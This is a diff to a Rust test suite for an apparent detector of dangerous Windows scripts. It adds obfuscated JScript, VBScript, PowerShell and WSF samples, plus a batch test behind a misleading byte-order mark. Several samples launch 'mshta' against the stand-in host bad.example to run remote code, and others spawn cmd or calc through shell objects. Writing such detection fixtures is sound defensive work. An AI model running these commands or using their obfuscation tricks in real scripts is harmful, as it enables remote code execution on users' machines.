@@ -45,6 +45,11 @@ fn dangerous() -> Vec<(Kind, String)> {
         (Kind::Wsf, format!("<?xml version=\"1.0\"?><package><job><script language=\"JScript\">var a = 1;</script><script language=\"VBScript\"><![CDATA[\nCreateObject(\"{shell}\").Run \"mshta http://bad.example/a\"\n]]></script></job></package>")),
         (Kind::Sct, format!("<?xml version=\"1.0\"?><scriptlet><registration progid=\"a\"><script language=\"JScript\"><![CDATA[new ActiveXObject(\"{shell}\").Run(\"calc.exe\");]]></script></registration></scriptlet>")),
         (Kind::Xslt, format!("<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><ms:script xmlns:ms=\"urn:schemas-microsoft-com:xslt\" language=\"JScript\">var r = new ActiveXObject(\"{shell}\").Run(\"calc.exe\");</ms:script></xsl:stylesheet>")),
+        (Kind::JavaScript, "var d = function (i) { return t[i]; }; var o = new ActiveXObject(d(3)); o[d(1)](d(2));".into()),
+        (Kind::VbScript, "Set a = CreateObject(d(1))\nSet b = CreateObject(d(2))\na.Open d(3)".into()),
+        (Kind::VbScript, "GetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create \"calc\", Null, Null, p".into()),
+        (Kind::PowerShell, "&($env:ComSpec[4,24,25]-join'') (New-Object Net.WebClient)".into()),
+        (Kind::Wsf, "<?xml version=\"1.0\"?><job><object id=\"s\" progid=\"WScript.Shell\"/><script language=\"JScript\">s.Run(\"cmd /c calc\");</script></job>".into()),
         (Kind::Msc, "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><StringTables><String ID=\"8\">res://apds.dll/redirect.html?target=javascript:eval(a)</String></StringTables></MMC_ConsoleFile>".into()),
         (Kind::Msc, "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><ConsoleTaskpads><Tasks><Task Type=\"CommandLine\" Command=\"cmd.exe\"><CommandLine Params=\"/c calc\"/></Task></Tasks></ConsoleTaskpads></MMC_ConsoleFile>".into()),
         (Kind::MsBuild, "<Project xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\"><UsingTask TaskName=\"A\" TaskFactory=\"CodeTaskFactory\"><Task><Code Type=\"Class\" Language=\"cs\"><![CDATA[ var a = VirtualAlloc(0, 1, 2, 3); ]]></Code></Task></UsingTask></Project>".into()),
@@ -182,6 +187,15 @@ fn ordinary_scripts_are_quiet() {
         .filter(|(danger, expected, _)| danger != *expected)
         .collect();
     assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+#[test]
+fn a_mark_that_promises_another_encoding_hides_nothing() {
+    let text = [&b"\xff\xfe\r\n"[..], b"@echo off\r\nset a=1\r\nmshta http://bad.example/%a%\r\n"].concat();
+    let kind = crate::kind(&text);
+    assert_eq!(kind, Kind::Batch);
+    let opened = open(&text, kind, &Keys::default(), &mut Budget::default(), &mut |_| {});
+    assert_eq!(opened.deeds[0].danger, Danger::Dangerous, "{opened:?}");
 }
 
 #[test]
